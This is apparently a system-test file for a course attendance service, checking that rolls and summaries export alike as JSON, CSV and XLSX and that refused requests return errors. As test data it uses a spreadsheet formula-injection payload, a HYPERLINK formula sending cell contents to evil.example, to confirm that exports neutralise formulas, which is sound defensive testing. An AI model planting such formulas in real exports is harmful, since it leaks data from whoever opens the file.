"""Rolls and summaries as their readers take them away: JSON, CSV and XLSX say the same, and nobody's name becomes a formula."""

import csv
import io
from typing import Any

import openpyxl
import pytest

from tests.system.rig import Rig, unique
from tests.system.talk import Payload, a_lecture, a_session, an_admin, bearer, calling, http

ROLL = ("student_id", "student_name", "status", "remarks", "source", "marked_by", "marked_at", "joined_at", "seq")
SUMMARY = (
    *("student_id", "student_name", "enrolled", "presentCount", "absentCount", "lateCount", "excusedCount"),
    *("takenSessions", "attendanceRate", "bestPossibleRate"),
)
EVIL = '=HYPERLINK("//evil.example?"&A1;"Ann")'


async def file(url: str, path: str, bearer: str) -> tuple[bytes, dict[str, str]]:
    """Fetch a file, with its headers."""
    status, answer = await http(url, "GET", path, bearer)
    assert status == 200, answer
    return answer["body"], answer["headers"]


def csv_rows(body: bytes) -> list[dict[str, str]]:
    """Read a CSV's rows by the names in its header."""
    assert not body.startswith(b"\xef\xbb\xbf")
    assert body.count(b"\r\n") == body.count(b"\n")
    return list(csv.DictReader(io.StringIO(body.decode(), newline=""), strict=True))


def xlsx_rows(body: bytes) -> list[dict[str, Any]]:
    """Read a workbook's rows by the names in its header; none of its cells may be a formula or a link."""
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    assert sheet.freeze_panes == "A2"
    header, *rows = sheet.iter_rows()
    assert all(cell.font.b for cell in header)
    assert not any(cell.data_type == "f" or cell.hyperlink for row in rows for cell in row)
    return [{str(name.value): cell.value for name, cell in zip(header, row, strict=True)} for row in rows]


def as_csv(value: Any) -> str:
    """Write a value as the CSV is to have it."""
    if isinstance(value, bool):
        return "true" if value else "false"
    text = "" if value is None else f"{value:g}" if isinstance(value, float) else str(value)
    return f"'{text}" if isinstance(value, str) and text.startswith("=") else text


def numbers_alike(rows: list[Payload]) -> list[Payload]:
    """50 and 50.0 are one number in a sheet."""
    return [{name: float(value) if type(value) is int else value for name, value in row.items()} for row in rows]


async def test_a_roll_is_the_same_in_every_form(rig: Rig) -> None:
    here, there = rig.gateways
    lecture = await a_lecture(here, students=2)
    teacher, path = bearer(lecture.teacher, "teacher"), f"/sessions/{lecture.session_id}"
    ann, bob = lecture.students
    walk_in = unique("-w")
    roster = f"/courses/{lecture.course_id}/roster"
    await http(here, "POST", f"{roster}/{walk_in}", teacher, json={"name": EVIL})
    await http(here, "POST", f"{path}/start", teacher)
    async with calling(there, bearer(ann, "student")) as student:
        assert (await student.ask("joinAttendanceSession", lecture.about))["ok"]
    said = {"status": "excused", "remarks": '=1+1, or\r\n"ill"'}
    status, answer = await http(here, "PUT", f"{path}/attendance/{bob}", teacher, json=said)
    assert status == 200, answer

    _, roll = await http(there, "GET", f"{path}/attendance", teacher)
    csv_body, csv_headers = await file(here, f"{path}/attendance.csv", teacher)
    xlsx_body, xlsx_headers = await file(there, f"{path}/attendance.xlsx", teacher)

    expected = [{name: record[name] for name in ROLL} for record in roll["attendanceRecords"]]
    assert len(expected) == 3
    text = csv_body.decode()
    assert text.splitlines()[0] == ",".join(ROLL)
    assert f"\r\n'{walk_in}," in text
    in_csv = [{name: as_csv(value).removeprefix("'") for name, value in row.items()} for row in expected]
    assert [{name: value.removeprefix("'") for name, value in row.items()} for row in csv_rows(csv_body)] == in_csv
    assert "'=HYPERLINK" in text
    assert "'=1+1" in text
    shown = [{**row, "remarks": row["remarks"] and row["remarks"].replace("_x000D_", "\r")} for row in xlsx_rows(xlsx_body)]
    assert shown == expected
    assert csv_headers["Content-Type"] == "text/csv; charset=utf-8"
    assert csv_headers["Content-Disposition"] == f'attachment; filename="attendance-{lecture.session_id}.csv"'
    assert xlsx_headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert xlsx_headers["Content-Disposition"] == f'attachment; filename="attendance-{lecture.session_id}.xlsx"'


async def test_a_summary_is_the_same_in_every_form(rig: Rig) -> None:
    """Two rolls taken, one cancelled, one under way, one to come; one student has left, one has just come."""
    here, there = rig.gateways
    lecture = await a_lecture(here, students=3)
    teacher, course = bearer(lecture.teacher, "teacher"), f"/courses/{lecture.course_id}"
    ann, bob, cem = lecture.students
    sessions = [lecture.session_id, *[await a_session(here, lecture.course_id) for _ in range(4)]]

    async def ask(method: str, path: str, body: Payload | None = None) -> None:
        status, answer = await http(here, method, path, teacher, json=body)
        assert status in (200, 201), answer

    for session_id, verb, statuses in (
        (sessions[0], "end", {ann: "present", bob: "late", cem: "excused"}),
        (sessions[1], "submit", {ann: "late", cem: "excused"}),
        (sessions[2], "cancel", {ann: "absent", bob: "present"}),
        (sessions[3], None, {ann: "present"}),
    ):
        await ask("POST", f"/sessions/{session_id}/start")
        for student, each in statuses.items():
            await ask("PUT", f"/sessions/{session_id}/attendance/{student}", {"status": each})
        if verb:
            await ask("POST", f"/sessions/{session_id}/{verb}")
    await ask("DELETE", f"{course}/roster/{bob}")
    await ask("POST", f"{course}/roster/newcomer", {"name": "=Zoë"})

    status, summary = await http(there, "GET", f"{course}/summary", teacher)
    csv_body, csv_headers = await file(there, f"{course}/summary.csv", teacher)
    xlsx_body, _ = await file(here, f"{course}/summary.xlsx", teacher)

    assert status == 200
    assert {name: summary[name] for name in summary if name != "students"} == {
        "course_id": lecture.course_id,
        "title": "Algorithms",
        "taken_sessions": 2,
        "remaining_sessions": 2,
    }
    lines = [tuple(line[name] for name in SUMMARY) for line in summary["students"]]
    assert lines == [
        ("newcomer", "=Zoë", True, 0, 0, 0, 0, 0, None, 100.0),
        (ann, "Student 0", True, 1, 0, 1, 0, 2, 100.0, 100.0),
        (bob, "Student 1", False, 0, 1, 1, 0, 2, 50.0, 50.0),
        (cem, "Student 2", True, 0, 0, 0, 2, 2, None, 100.0),
    ]
    assert csv_body.decode().splitlines()[0] == ",".join(SUMMARY)
    assert [{**row, "attendanceRate": "", "bestPossibleRate": ""} for row in csv_rows(csv_body)] == [
        {**{name: as_csv(line[name]) for name in SUMMARY}, "attendanceRate": "", "bestPossibleRate": ""}
        for line in summary["students"]
    ]
    assert [row["attendanceRate"] for row in csv_rows(csv_body)] == ["", "100.0", "50.0", ""]
    assert numbers_alike(xlsx_rows(xlsx_body)) == numbers_alike(summary["students"])
    assert csv_headers["Content-Disposition"] == f'attachment; filename="summary-{lecture.course_id}.csv"'


async def test_a_mark_after_the_submission_changes_the_summary(rig: Rig) -> None:
    lecture = await a_lecture(rig.gateways[0], students=1)
    teacher, path = bearer(lecture.teacher, "teacher"), f"/sessions/{lecture.session_id}"
    rates = []
    for verb, body in (("start", None), ("submit", None)):
        assert (await http(rig.gateways[0], "POST", f"{path}/{verb}", teacher, json=body))[0] == 200
    for each in ("late", "absent", "excused"):
        said = {"status": each, "reason": "a second look"}
        await http(rig.gateways[0], "PUT", f"{path}/attendance/{lecture.students[0]}", teacher, json=said)
        _, summary = await http(rig.gateways[1], "GET", f"/courses/{lecture.course_id}/summary", teacher)
        rates.append(summary["students"][0]["attendanceRate"])

    assert rates == [100.0, 0.0, None]


@pytest.mark.parametrize("ending", ["", ".csv", ".xlsx"])
async def test_a_refused_report_is_a_refusal_and_no_file(rig: Rig, ending: str) -> None:
    lecture = await a_lecture(rig.gateways[0], students=1)
    student, admin = bearer(lecture.students[0], "student"), an_admin()
    refusals = [
        await http(rig.gateways[0], "GET", f"/courses/{lecture.course_id}/summary{ending}", student),
        await http(rig.gateways[0], "GET", f"/courses/{unique('none')}/summary{ending}", admin),
        await http(rig.gateways[0], "GET", f"/sessions/{lecture.session_id}/attendance{ending}", admin),
        await http(rig.gateways[0], "GET", f"/sessions/{'0' * 24}/attendance{ending}", admin),
    ]

    assert [(status, body["error"]["code"]) for status, body in refusals] == [
        (403, "forbidden"),
        (404, "course_not_found"),
        (409, "session_not_active"),
        (404, "session_not_found"),
    ]
